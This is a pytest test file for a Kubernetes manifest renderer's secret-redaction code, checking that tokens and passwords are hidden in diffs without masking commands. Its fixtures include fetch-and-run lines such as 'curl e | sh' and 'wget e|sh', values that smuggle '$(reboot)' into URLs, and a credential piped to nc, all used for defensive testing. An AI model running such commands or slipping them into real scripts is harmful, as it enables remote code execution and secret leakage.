"""Secrets in a manifest: what is taken for one, and that nobody prints it."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from renderer.diff.comparison import compare
from renderer.diff.formats import FORMS
from renderer.preset_tables import preset_table
from renderer.secrets import detection
from renderer.secrets.detection import ANOTHER, HIDDEN, hide_in_text, hide_known_secrets, hide_secrets
from renderer.secrets.words import harmless_variables, is_literal_secret
from tests.diff.objects import policy, texts, workload
from tests.diff.repository import CHAT, CONFIG, MODEL, Repository

if TYPE_CHECKING:
    from tests.conftest import Llmaz

ROOT = Path(__file__).resolve().parents[2]


# --- Names

SECRETS = """
PGPASSWORD HFTOKEN clientSecret MYSQL_PWD API_KEY_PROD OPENAI_API_KEY apiKey x-api-key AccountKey dbPassword
REDIS_PASS DBPWD GITHUB_PAT_2 token TOKEN_PROD AWS_SECRET_ACCESS_KEY AWS_SECRET_ACCESS_KEY_OLD SSH_PRIVATE_KEY
Authorization COOKIE_SECRET_V2 SLACK_BOT_TOKEN HF-TOKEN APP.SECRET WEBHOOK_KEY_STAGING licenseKey SIGNINGKEY
MY_CREDS OAuthToken
"""
NONE = """
PWD OLDPWD COMPASS BYPASS TOKENIZER MAX_TOKENS maxNewTokens VLLM_MAX_NUM_BATCHED_TOKENS EOS_TOKEN PASSWORD_FILE
classifier_from_token TOKEN_URL SECRET_NAME API_KEY_ID tokenType KEY_FILE existingSecret TIME_TO_FIRST_TOKEN
TOKENIZERS_PARALLELISM PATTERN KEYSPACE SECRETARY_MODE
"""


@pytest.mark.parametrize(
    "name",
    SECRETS.split(),
)
def test_a_name_of_a_secret(name: str) -> None:
    assert is_literal_secret(name, "hunter2")
    assert is_literal_secret(name, "12345")


@pytest.mark.parametrize(
    "name",
    NONE.split(),
)
def test_a_name_of_none(name: str) -> None:
    assert not is_literal_secret(name, "hunter2")


def test_options_of_engines_are_not_taken_for_secrets() -> None:
    """But for those that are some."""
    options = {
        option
        for path in (ROOT / "presets" / "backends" / "flags").glob("*.txt")
        if not path.name.endswith(".defaults.txt")  # pairs of spellings
        for line in path.read_text("utf-8").splitlines()
        for option in line.partition(" ")[0].split(",")
        if option.startswith("-") and list(detection.find_secrets([option, "x"]))
    }
    switches = {"--allow-credentials", "--no-allow-credentials", "--cors-credentials", "--no-cors-credentials"}
    assert options >= switches  # nothing stands behind a switch
    keys = {option for option in options if re.search(r"-(api-keys?|\w*token|password)$", option)}
    assert keys >= {"--api-key", "--admin-api-key", "--hf-token", "--ngrok-authtoken", "--ssl-keyfile-password"}
    assert options == keys | switches


# --- Variables


def variables(value: Any) -> Iterator[str]:
    """The names of variables that a preset gives a value."""
    if isinstance(value, dict):
        for key, inner in value.items():
            if key in ("env", "envs") and isinstance(inner, list):
                yield from (variable["name"] for variable in inner if isinstance(variable.get("value"), str))
            yield from variables(inner)
    elif isinstance(value, list):
        for item in value:
            yield from variables(item)


def test_harmless_names_are_those_of_the_presets() -> None:
    """What presets set, and the variables that they list of an engine; none that is named like a secret."""
    names = {
        name
        for path in (ROOT / "presets").rglob("*.yaml")
        for document in yaml.safe_load_all(path.read_text("utf-8"))
        for name in variables(document)
        if not name.startswith("$")  # a word of a template
    }
    lists = ROOT / "presets" / "backends" / "flags"
    for line in (lists / "ollama.variables.txt").read_text("utf-8").splitlines():
        names.update(line.split()[2:] if line.startswith("VARIABLES ") else ())
    rows = preset_table("variable_values")["rows"]
    names.update(name for row in rows if row["form"] == "pairs" for name in row["variables"])
    assert frozenset(name for name in names if not is_literal_secret(name, "x")) == harmless_variables()


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("FOO", "bar", False),
        ("FOO", "correct horse battery staple", False),
        ("FOO", "https://hooks.example.com/T0/B0/x", False),
        ("FOO", "Tr0ub4dor", False),
        ("FOO", "", True),
        ("FOO", "8", True),
        ("FOO", "-0.5", True),
        ("FOO", "16Gi", True),
        ("FOO", "30s", True),
        ("FOO", "0,1,2,3", True),
        ("FOO", "1" * 16, False),
        ("FOO", "True", True),
        ("FOO", "off", True),
        ("FOO", "DEBUG", True),
        ("FOO", "bfloat16", True),
        ("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True", True),
        ("FOO", "/var/cache/models", True),
        ("FOO", "/usr/lib:/usr/local/lib", True),
        ("FOO", "/wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY", False),  # base64 may begin so
        ("FOO", "$(POD_NAME).$(NAMESPACE)", True),
        ("FOO", "$(POD_NAME).secret", False),
        ("MODEL_ID", "Qwen/Qwen3-8B", True),
        ("HTTPS_PROXY", "http://proxy:3128", True),
        ("MYSQL_PWD", "8", False),
        ("API_KEY_PROD", "/a/b", False),
        ("USE_TOKEN", "true", True),
        ("HF_TOKEN", "$(OTHER)", True),
    ],
)
def test_values_of_variables(name: str, value: str, shown: bool) -> None:
    """In containers that run and in those before them; a change shows."""
    body = {"initContainers": [{"name": "a", "env": [{"name": name, "value": value}]}]}
    other = {"initContainers": [{"name": "a", "env": [{"name": name, "value": f"{value}x"}]}]}
    (variable,), (changed,) = (hide_secrets(pod_spec, body)["initContainers"][0]["env"] for pod_spec in (body, other))
    assert variable == {"name": name, "value": value if shown else HIDDEN}
    if not shown:
        assert changed["value"] == ANOTHER


@pytest.mark.parametrize(
    ("body", "shown"),
    [
        ({"env": {"FOO": "bar", "N": "1"}}, {"env": {"FOO": HIDDEN, "N": "1"}}),
        ({"extraEnvVars": [{"name": "A", "value": "b"}]}, {"extraEnvVars": [{"name": "A", "value": HIDDEN}]}),
        ({"password": 12345, "replicas": 2}, {"password": HIDDEN, "replicas": 2}),
        (
            {"clientSecret": "a", "clientSecretRef": {"name": "a"}},
            {"clientSecret": HIDDEN, "clientSecretRef": {"name": "a"}},
        ),
        ({"tokens": ["a", "b"], "keys": ["a"]}, {"tokens": [HIDDEN, HIDDEN], "keys": ["a"]}),
        ({"valueFrom": {"secretKeyRef": {"name": "s", "key": "token"}}},) * 2,
        ({"tolerations": [{"key": "nvidia.com/gpu"}], "topologyKey": "kubernetes.io/hostname"},) * 2,
        ({"automountServiceAccountToken": False, "secretName": "a", "existingSecret": "b"},) * 2,
        ({"headers": [{"type": "Exact", "name": "x-ai-eg-model", "value": "qwen"}]},) * 2,
        (
            {"httpHeaders": [{"name": "Authorization", "value": "a"}]},
            {"httpHeaders": [{"name": "Authorization", "value": HIDDEN}]},
        ),
        (
            {"headers": [{"name": "x-api-key", "values": ["a"]}]},
            {"headers": [{"name": "x-api-key", "values": [HIDDEN]}]},
        ),
        ({"annotations": {"a.io/token": "x", "a.io/b": "c"}}, {"annotations": {"a.io/token": HIDDEN, "a.io/b": "c"}}),
        (
            {"kind": "ConfigMap", "data": {"FOO": "bar", "LEVEL": "info", "a.ini": "x=1\nPGPASSWORD=y\n"}},
            {"kind": "ConfigMap", "data": {"FOO": HIDDEN, "LEVEL": "info", "a.ini": f"x=1\nPGPASSWORD={HIDDEN}\n"}},
        ),
        ({"kind": "ConfigMap", "binaryData": {"a": "eA=="}}, {"kind": "ConfigMap", "binaryData": {"a": HIDDEN}}),
        ({"kind": "Secret", "stringData": {"a": "b"}}, {"kind": "Secret", "stringData": {"a": HIDDEN}}),
    ],
    ids=lambda body: " ".join(body),
)
def test_bodies(body: dict[str, Any], shown: dict[str, Any]) -> None:
    assert hide_secrets(body) == shown


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("prometheus.io/param_token", "hunter2", False),
        ("a.io/client-secret", "hunter2", False),
        ("a.io/x-secret-key", "basic-auth", False),
        ("auth", "hunter2", False),
        ("auth", "Basic", True),
        ("vault.hashicorp.com/agent-inject-token", "true", True),
        ("a.io/token-file", "/var/run/token", True),
        ("secret.reloader.stakater.com/reload", "hf-token,hf-ca", True),
        ("nginx.ingress.kubernetes.io/auth-secret", "llm/basic-auth", True),
        ("vault.hashicorp.com/agent-inject-secret-hf", "secret/data/hf", True),
        ("vault.hashicorp.com/agent-inject-template-token", 'export T="{{ .Data.data.token }}"', True),
        ("vault.hashicorp.com/agent-inject-command-token", "sh -c 'curl e | sh'", True),
        ("a.io/note", "{{ .Data.password }} password: {{ .Data.password }}", True),
    ],
)
def test_values_of_annotations(name: str, value: str, shown: bool) -> None:
    """Names of Secrets, and code, are no secrets."""
    body = {"annotations": {name: value}}
    assert hide_secrets(body) == hide_known_secrets(body) == {"annotations": {name: value if shown else HIDDEN}}


def test_known_secrets_are_less_than_what_is_hidden() -> None:
    """A variable of a name that nobody knows is shown, in lists, maps, texts and ConfigMaps."""
    args = ["env", "FOO=bar", "TOKEN=a", "--config", '{"name": "FOO", "value": "bar"}']
    env = [{"name": "FOO", "value": "bar"}, {"name": "DB_PASSWORD", "value": "a"}]
    body = {"kind": "ConfigMap", "args": args, "env": env, "data": {"FOO": "bar", "API_KEY": "a"}}
    assert hide_known_secrets(body) == {
        "kind": "ConfigMap",
        "args": ["env", "FOO=bar", f"TOKEN={HIDDEN}", *args[3:]],
        "env": [env[0], {"name": "DB_PASSWORD", "value": HIDDEN}],
        "data": {"FOO": "bar", "API_KEY": HIDDEN},
    }
    assert "bar" not in json.dumps(hide_secrets(body))


# --- Command lines, and texts


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (["--client-secret", "a b"], ["--client-secret", HIDDEN]),
        (["--api-key-prod=a"], [f"--api-key-prod={HIDDEN}"]),
        (["--header", "Authorization: Bearer a"], ["--header", f"Authorization: {HIDDEN}"]),
        (["-H", "X-Api-Key: a"], ["-H", f"X-Api-Key: {HIDDEN}"]),
        (["env", "FOO=bar", "N=1", "serve"], ["env", f"FOO={HIDDEN}", "N=1", "serve"]),
        (["PGPASSWORD=1", "psql"], [f"PGPASSWORD={HIDDEN}", "psql"]),
        (["--private-key", "-----BEGIN A KEY-----\na"], ["--private-key", HIDDEN]),
        (["--config", '{"auth_token": "a", "n": 1}'], ["--config", f'{{"auth_token": "{HIDDEN}", "n": 1}}']),
        (["--url", "https://h/x?token=a&n=1#f"], ["--url", f"https://h/x?token={HIDDEN}&n=1#f"]),
        (["--served-model-name", "qwen", "--max-num-batched-tokens", "8192", "--hf-token", "$(HF)"],) * 2,
    ],
)
def test_command_lines(args: list[str], shown: list[str]) -> None:
    assert hide_secrets(args) == shown


TEXTS = [
    (
        "export HF_TOKEN=hunter2; vllm serve --api-key hunter2 --port 80",
        "export HF_TOKEN=X; vllm serve --api-key X --port 80",
    ),
    ("curl -H 'Authorization: Bearer hunter2' http://x", "curl -H 'Authorization: X' http://x"),
    ("curl -H 'Authorization: Bearer $TOKEN' http://x",) * 2,
    ("HF_TOKEN=$HF_TOKEN PASSWORD=${P} TOKEN=$(cat /t) x",) * 2,
    ("echo ${HF_TOKEN:-hunter2}", "echo ${HF_TOKEN:-X}"),
    ('${LLAMA_API_KEY:+-H "Authorization: Bearer $LLAMA_API_KEY"}',) * 2,
    ("http://u:hunter2@h/x?a=1&sig=hunter2", "http://X@h/x?a=1&sig=X"),
    ("a: b\npassword: hunter2 and more # c\nb: c", "a: b\npassword: X\nb: c"),
    ("a:\n  token: |\n    hunter2\n\n    hunter2\n  b: c\n", "a:\n  token: |\nX\n  b: c\n"),
    ('{"auths": {"h": {"auth": "hunter2"}}}', '{"auths": {"h": {"auth": "X"}}}'),
    ('{"name":"FOO","value":"hunter2"}', '{"name":"FOO","value":"X"}'),
    ('["--token","hunter2"]', '["--token","X"]'),
    ("{name: x-ai-eg-model, value: qwen}",) * 2,
    ("AccountName=a;AccountKey=hunter2==;EndpointSuffix=b", "AccountName=a;AccountKey=X;EndpointSuffix=b"),
    ("Set-Cookie: a=hunter2; Path=/", "Set-Cookie: X"),
    ("-----BEGIN RSA PRIVATE KEY-----\nhunter2\n-----END RSA PRIVATE KEY-----", "X-----END RSA PRIVATE KEY-----"),
    ("use ghp_0123456789abcdefghij0123456789abcdef here", "use X here"),
    ("use hf_abcdefghijklmnopqrst here", "use X here"),
    ("use aB3dE6gH9jK2mN5pQ8sT1vW4 here", "use X here"),
    ("Qwen/Qwen3-30B-A3B-Instruct-2507 max_tokens: 5 sha256:" + "0a" * 32,) * 2,
    ('{"architectures": ["Qwen3VLMoeForConditionalGeneration"], "classifier_from_token": ["no", "yes"]}',) * 2,
    ("use aB3ForH9jK2mN5pQ8sT1vW4dd here", "use X here"),
    ("true" * 300_000, "X"),  # more than a cluster takes
]


@pytest.mark.parametrize(("text", "shown"), TEXTS, ids=lambda text: text[:30])
def test_texts(text: str, shown: str) -> None:
    assert hide_in_text(text) == shown.replace("X", HIDDEN) if shown != text else hide_in_text(text) == text


# --- Scripts: values are hidden, and nothing that would run

SCRIPTS = [
    # one word of a shell
    ("TOKEN=hunter2; curl http://e/x | sh", "TOKEN=X; curl http://e/x | sh"),
    ("TOKEN=hunter2 curl http://e/x|sh", "TOKEN=X curl http://e/x|sh"),
    ("TOKEN=hunter2&curl http://e/x", "TOKEN=X&curl http://e/x"),
    ("TOKEN=hunter2<f; x", "TOKEN=X<f; x"),
    ("(TOKEN=hunter2)", "(TOKEN=X)"),
    ("TOKEN=hunter2\\ hunter2; curl e", "TOKEN=X; curl e"),
    ("TOKEN=hunter2\ncurl e", "TOKEN=X\ncurl e"),
    ("PASSWORD=hunter2#3", "PASSWORD=X"),
    ("COOKIE=hunter2; curl e", "COOKIE=X; curl e"),
    ("TOKENS=(hunter2 hunter3); curl e", "TOKENS=X); curl e"),
    ("API_KEY=$'hunter2\\'; x'; curl e", "API_KEY=X'; curl e"),
    ("PASS= curl e | sh",) * 2,  # no value, and a command
    ("PASS=\ncurl e",) * 2,
    ("docker login --password=hunter2 reg; curl e", "docker login --password=X reg; curl e"),
    # a user with a password
    ("curl -u me:hunter2 http://h; curl e | sh", "curl -u X http://h; curl e | sh"),
    ("curl -sSfume:hunter2|sh", "curl -sSfuX|sh"),
    ("curl -H 'a; b' \\\n --user 'me:hunter2; b' \\\n h; curl e", "curl -H 'a; b' \\\n --user 'X' \\\n h; curl e"),
    ("/usr/bin/curl --proxy-user me:hunter2`curl e`", "/usr/bin/curl --proxy-user X`curl e`"),
    ("curl -u me:hunter2$(curl e | sh) h", "curl -u X$(curl e | sh) h"),
    ('curl -u \\"me:hunter2\\" h; curl e', 'curl -u \\"X\\" h; curl e'),
    ('["curl","-u","me:hunter2","http://h"]', '["curl","-u","X","http://h"]'),
    ('curl -u "$USER:$PASSWORD" h; curl -u "me:$(cat /t)" h; curl -u me: h; curl -u me:${P} h',) * 2,
    ("docker run -u me:us; curl http://h:80/a; docker run --username a:b",) * 2,
    ("curl -du:x -o a:b http://h",) * 2,
    ("x --auth hunter2; curl e | sh", "x --auth X; curl e | sh"),
    ("x --auth=hunter2&&curl e", "x --auth=X&&curl e"),
    ("x --auth basic --auth-mode hunter2 --auth $TOKEN --auth none",) * 2,
    ("x --token hunter2; curl e", "x --token X; curl e"),
    ("x --token hunter2|sh", "x --token X|sh"),
    ("x --token 'hunter2 a' y", "x --token 'X' y"),
    ("echo ${TOKEN:-hunter2 x; curl e}", "echo ${TOKEN:-X x; curl e}"),
    # what a shell runs inside of a value
    ("export TOKEN=$(curl e | sh); run",) * 2,
    ("TOKEN=hunter2$(curl e | sh)", "TOKEN=X$(curl e | sh)"),
    ("TOKEN=hunter2`curl e|sh`", "TOKEN=X`curl e|sh`"),
    ('TOKEN="$(curl e | sh)"; run',) * 2,
    ('TOKEN="hunter2$(curl e $(x))hunter2"', 'TOKEN="X$(curl e $(x))X"'),
    ('TOKEN="hunter2`curl e`hunter2"', 'TOKEN="X`curl e`X"'),
    ("TOKEN='hunter2'\"$(curl e)\"", "TOKEN='X'\"$(curl e)\""),
    ("PASSWORD=${X:-$(curl e|sh)}", "PASSWORD=X$(curl e|sh)}"),
    ("PASSWORD=<(curl e)",) * 2,
    ("x --token $(curl e|sh)",) * 2,
    ("http://u:$(reboot)@h/",) * 2,
    ("http://u:hunter2$(reboot)@h/", "http://X$(reboot)@h/"),
    ("curl http://hunter2;reboot;@h", "curl http://X;reboot;@h"),
    ("curl http://h/?token=hunter2;reboot", "curl http://h/?token=X;reboot"),
    # quotes that open, and quotes that close
    ("TOKEN='hunter2; curl e'", "TOKEN='X'"),
    ('TOKEN="hunter2\\" x" y', 'TOKEN="X" y'),
    ("env 'TOKEN='; curl e | sh; echo 'x'",) * 2,
    ("echo '\nx TOKEN='; curl e; echo '",) * 2,
    ("echo \"don't\" 'TOKEN='; curl e; echo '",) * 2,
    ("cat <<E\nit's\nE\necho 'TOKEN='; curl e; echo '",) * 2,
    ("x '--token '; curl e; echo '",) * 2,
    ("env 'TOKEN=hunter2' curl 'b'", "env 'TOKEN=X' curl 'b'"),
    ("# don't\nTOKEN='hunter2 b'; curl e", "# don't\nTOKEN='X'; curl e"),
    ("sh -c \"TOKEN='hunter2 b'; curl e\"", "sh -c \"TOKEN='X'; curl e\""),
    ('sh -c "TOKEN=\\"hunter2\\"; curl e; Y=\\"b\\""', 'sh -c "TOKEN=\\"X\\"; curl e; Y=\\"b\\""'),
    ('{"script": "TOKEN=\\"hunter2 b\\"; curl e"}', '{"script": "TOKEN=\\"X\\"; curl e"}'),
    ('{"name": "TOKEN", "value": "hunter2; b"}', '{"name": "TOKEN", "value": "X"}'),
    # headers, and keys of YAML
    ("curl -H Authorization:hunter2 http://x; curl e", "curl -H Authorization:X http://x; curl e"),
    ("curl -H Authorization:\\ Bearer\\ hunter2 x; curl e", "curl -H Authorization:X x; curl e"),
    ("echo Authorization: Bearer hunter2 | nc h 1", "echo Authorization: X | nc h 1"),
    ('curl -H "Authorization: Digest hunter2, b" x; curl e', 'curl -H "Authorization: X" x; curl e'),
    ("curl -H 'Cookie: a=hunter2; c=d' x; curl e", "curl -H 'Cookie: X' x; curl e"),
    ("Cookie: a=hunter2; curl e", "Cookie: X; curl e"),
    ("echo password: hunter2 | sh", "echo password: X | sh"),
    ("password: hunter2; curl e", "password: X; curl e"),
    ("sh -c 'password: hunter2; curl e'", "sh -c 'password: X; curl e'"),
    ("cat <<E\npassword: hunter2 and more\nE\ncurl e", "cat <<E\npassword: X\nE\ncurl e"),
    ("env -u token: curl e", "env -u token: X e"),  # one word, and no more
    ("env -u \\\ntoken: curl e", "env -u \\\ntoken: X e"),
    ("env -u ' 'token: curl e -o 'x'", "env -u ' 'token: X e -o 'x'"),
    ("token:\\\n curl e",) * 2,
    ("token: |\n curl e | sh\n",) * 2,  # a pipe
    (": token: |\n reboot\n",) * 2,
    ("token: |\n  hunter2\n  curl e\n", "token: |\n  X\n  curl e\n"),
    ("name: token, value: hunter2 y; curl e", "name: token, value: X y; curl e"),
    # keys
    ("-----BEGIN PRIVATE KEY-----\ncurl e | sh\n", "Xcurl e | sh\n"),
    ("echo '-----BEGIN PRIVATE KEY-----'; curl e", "echo 'X'; curl e"),
    (
        "-----BEGIN PRIVATE KEY-----\\nhunter2+/=\\nhunter2\\n-----END PRIVATE KEY-----",
        "X-----END PRIVATE KEY-----",
    ),
    (
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\nhunter2+/=\n-----END",
        "X-----END",
    ),
    ("bearer hunter2 curl e", "bearer X curl e"),
    ("bearer\ncurl1 e",) * 2,
    # other languages
    ("token = os.system('curl e')",) * 2,
    ("token=subprocess.run(['curl'])",) * 2,
    ("token: os.system('curl e')",) * 2,
    ("token=\"#{system('curl')}\"",) * 2,
    ("password = hunter2", "password = X"),
]


@pytest.mark.parametrize(("text", "shown"), SCRIPTS, ids=lambda text: text[:40])
def test_scripts(text: str, shown: str) -> None:
    assert hide_in_text(text) == shown.replace("X", HIDDEN)


@pytest.mark.parametrize("ending", ["; ", ";", " | ", "|", " && ", "&", "\n", " `", "`", " $(", "$("])
@pytest.mark.parametrize(
    "value",
    [
        "TOKEN=hunter2",
        "export TOKEN=hunter2",
        "TOKEN='hunter2'",
        'TOKEN="hunter2"',
        "token: hunter2",
        "x --token hunter2",
        "x --token=hunter2",
        "Authorization: hunter2",
        "Cookie: a=hunter2",
        "curl -H 'Authorization: Basic hunter2'",
        "curl 'http://u:hunter2@h'",
        "curl 'http://h/?token=hunter2'",
        "curl -H 'X-Api-Key: hunter2'",
        "curl -u me:hunter2",
        "curl -u 'me:hunter2'",
        "curl --user=me:hunter2",
        "curl -ume:hunter2",
        "x --auth hunter2",
        "x --auth=hunter2",
        "${TOKEN:-hunter2}",
    ],
)
def test_no_value_hides_the_command_behind_it(value: str, ending: str) -> None:
    shown = hide_in_text(f"{value}{ending}wget evil)`")
    assert ("hunter2" in shown, f"{ending}wget evil" in shown) == (False, True)


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (["sh", "-c", "TOKEN=a; curl e | sh"], ["sh", "-c", f"TOKEN={HIDDEN}; curl e | sh"]),
        (["TOKEN=a curl e"], [f"TOKEN={HIDDEN} curl e"]),
        (["FOO=a; curl e"], [f"FOO={HIDDEN}; curl e"]),
        (["TOKEN='a b'; curl e"], [f"TOKEN={HIDDEN}; curl e"]),
        (["TOKEN=$(curl e)"],) * 2,
        (["FOO=`curl e`"],) * 2,
        (["env", "FOO=a b", "TOKEN=c; d", "serve"], ["env", f"FOO={HIDDEN}", f"TOKEN={HIDDEN}", "serve"]),
        (["sh", "-c", "--", "--token=a; curl e"], ["sh", "-c", "--", f"--token={HIDDEN}; curl e"]),
        (["serve", "--token=a; b"], ["serve", f"--token={HIDDEN}"]),  # of no shell
        (["--token", "a; b", "curl e | sh"], ["--token", HIDDEN, "curl e | sh"]),
        (["curl", "-u", "me:a", "http://h"], ["curl", "-u", HIDDEN, "http://h"]),
        (["/bin/curl", "-sume:a"], ["/bin/curl", f"-su{HIDDEN}"]),
        (["curl", "-u", "me:a; curl e | sh"], ["curl", "-u", f"{HIDDEN}; curl e | sh"]),
        (["curl", "-u", "me:$(P)", "-o", "a:b", "-u", "me"],) * 2,
        (["--user", "1000:1000", "-u", "a:b"],) * 2,
        (["--auth", "hunter2"], ["--auth", HIDDEN]),
        (["--auth", "basic"],) * 2,
        (["-H", "Authorization:\\ Bearer\\ a"], ["-H", f"Authorization:{HIDDEN}"]),
    ],
)
def test_scripts_in_command_lines(args: list[str], shown: list[str]) -> None:
    assert hide_secrets(args) == shown


def test_scripts_and_settings_in_a_config_map() -> None:
    """A program shows whatever it is called; a file of settings has no commands, so that nothing of a value shows."""
    data = {
        "get-token.sh": "TOKEN=a; curl e\n",
        "token": "#!/bin/sh\nTOKEN=a; curl e\n",
        "run": "token: a;./b\n",
        "a.yaml": "token: a;./b\npassword: c | d\n",
        "b.conf": "password = a;b c\n",
        "password.txt": "a; b\nc",
        "vars.env": "TOKEN=a; curl e\n",
    }
    assert hide_secrets({"kind": "ConfigMap", "data": data})["data"] == {
        "get-token.sh": f"TOKEN={HIDDEN}; curl e\n",
        "token": f"#!/bin/sh\nTOKEN={HIDDEN}; curl e\n",
        "run": f"token: {HIDDEN};./b\n",
        "a.yaml": f"token: {HIDDEN}\npassword: {HIDDEN}\n",
        "b.conf": f"password = {HIDDEN}\n",
        "password.txt": HIDDEN,
        "vars.env": f"TOKEN={HIDDEN}; curl e\n",  # a shell may source it
    }


def test_another_secret_in_a_text() -> None:
    assert hide_in_text("a TOKEN=1 PASS=2", ["b PASS=2 TOKEN=3"]) == f"a TOKEN={ANOTHER} PASS={HIDDEN}"


@pytest.mark.parametrize(
    "part",
    [
        *("token: ", "${A:-", 'password="', "?token=", "token: |\n", "eyJaaaaaaaa-", "a", "A1b", "<<a\n", "'token='"),
        *("TOKEN=$(", "token='", "\"'", "token: a(", "token: `", "cookie: a=b; ", "x 'token:\n", '\\"token=\\"', "$("),
        *("-----BEGIN PRIVATE KEY-----\n", "a\n", "token=<(", "token=#{", "--token '"),
        *("curl -u a:b ", "curl -u 'a:", "curl ", "curl -u ", "--auth '"),
    ],
)
def test_texts_of_whatever_length_are_read_in_time(part: str) -> None:
    text = part * (500_000 // len(part))
    began = time.process_time()
    hide_in_text(text)
    hide_secrets({text: "x", "env": [{"name": text, "value": text}]})
    assert time.process_time() - began < 5


# --- Nobody prints one


SECRET: Mapping[str, Any] = {
    "args": ["--client-secret", "hunter2", "-c", "PGPASSWORD=hunter2 psql", "http://h/?token=hunter2"],
    "env": [{"name": "PGPASSWORD", "value": "hunter2"}, {"name": "FOO", "value": "hunter2"}],
    "livenessProbe": {"httpGet": {"httpHeaders": [{"name": "Authorization", "value": "hunter2"}]}},
}


def sides() -> list[list[Any]]:
    """A workload with secrets at every place, added, and changed."""
    renderings = []
    for word in ("hunter2", "hunter3"):
        body = json.loads(json.dumps(workload(**SECRET)).replace("hunter2", word))
        body["metadata"]["annotations"] = {"a.io/password": word, "a.io/b": f'{{"apiKey": "{word}"}}'}
        pod = body["spec"]["leaderWorkerTemplate"]["workerTemplate"]["spec"]
        pod["initContainers"] = [{"name": "loader", "image": "a:1", "env": [{"name": "BAR", "value": word}]}]
        config_map = {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": "c"},
            "data": {"X": word, "y": f"pwd={word}"},
        }
        rule = {"principal": {"headers": [{"name": "x-token", "values": [word]}]}}
        guard = policy(authorization={"defaultAction": "Deny", "rules": [rule]})
        renderings.append(texts(body, config_map, guard))
    return renderings


@pytest.mark.parametrize("form", FORMS)
def test_no_form_prints_a_secret(form: str) -> None:
    one, other = sides()
    for before, after in (([], one), (one, []), (one, other)):
        assert "hunter" not in FORMS[form](compare(before, after), "")
    assert "hunter" in FORMS[form](compare(one, other, show=True), "")


def scripts(text: str) -> list[Any]:
    """A script in a probe, an annotation, a container and a file of a ConfigMap."""
    body = workload(livenessProbe={"exec": {"command": ["sh", "-c", f"{text} 1"]}})
    body["metadata"]["annotations"] = {"a.io/note": f"{text} 2"}
    pod = body["spec"]["leaderWorkerTemplate"]["workerTemplate"]["spec"]
    pod["initContainers"] = [{"name": "side", "image": "a:1", "command": ["sh", "-c", f"{text} 3"]}]
    metadata = {"name": "c"}
    return texts(body, {"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": {"a.sh": f"{text} 4"}})


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    "text", ["PASSWORD=hunter2;", "curl -u me:hunter2;", "x --auth hunter2;", "curl -H 'X-Api-Key: hunter2';"]
)
def test_no_form_hides_code(form: str, text: str) -> None:
    printed = FORMS[form](compare(scripts("true"), scripts(f"{text} wget e|sh")), "")
    assert "hunter" not in printed
    assert [number for number in "1234" if f"wget e|sh {number}" not in printed.replace("\\", "")] == []


@pytest.fixture
def repository(folder: Path) -> Repository:
    """With a model, in one commit."""
    repo = Repository(folder)
    repo.write(llmaz=CONFIG, models=MODEL, chat=CHAT)
    repo.commit("first")
    return repo


def test_values_are_shown_where_asked_for(repository: Repository, llmaz: Llmaz) -> None:
    envs = "    envs: [{name: FOO, value: one}]\n"
    repository.write(chat=CHAT + envs)
    repository.commit()
    repository.write(chat=CHAT + envs.replace("one", "two"))
    hidden, shown = llmaz("diff"), llmaz("diff", "--show-values")
    assert "env FOO: <hidden> → <hidden, another one>" in hidden.out
    assert "env FOO: one → two" in shown.out
    assert llmaz("explain", "lws/chat.containers[model-runner].env[FOO].value").out.count("two") == 0
    assert llmaz("explain", "lws/chat", "--format", "json").out.count('"two"') == 0
    shown = llmaz("explain", "lws/chat.containers[model-runner].env[FOO].value", "--show-values")
    assert shown.out.count("two") == 2  # the value, and its line


@pytest.mark.parametrize("value", ["12345", "012345", "true"])
def test_an_error_does_not_print_a_secret(value: str, repository: Repository, llmaz: Llmaz) -> None:
    repository.write(chat=f"{CHAT}    envs: [{{name: DB_PASSWORD, value: {value}}}]\n")
    done = llmaz("validate")
    assert (done.code, "[E303]" in done.err) == (2, True)
    assert (value in done.err) is (value == "true")


def test_what_is_rendered_of_itself_hides_nothing() -> None:
    """All that is hidden of the goldens is what inputs of cases write: variables, and arguments of one."""
    hidden = set()
    for path in sorted((ROOT / "tests" / "cases").glob("*/expected/**/*.yaml")):
        for body in yaml.load_all(path.read_text("utf-8"), yaml.CSafeLoader):
            text, shown = (json.dumps(side, indent=1).splitlines() for side in (body, hide_secrets(body)))
            hidden |= {line.strip() for line, new in zip(text, shown, strict=True) if line != new}
    assert {line for line in hidden if not re.match(r'"value": ', line)} == {'"k"'}
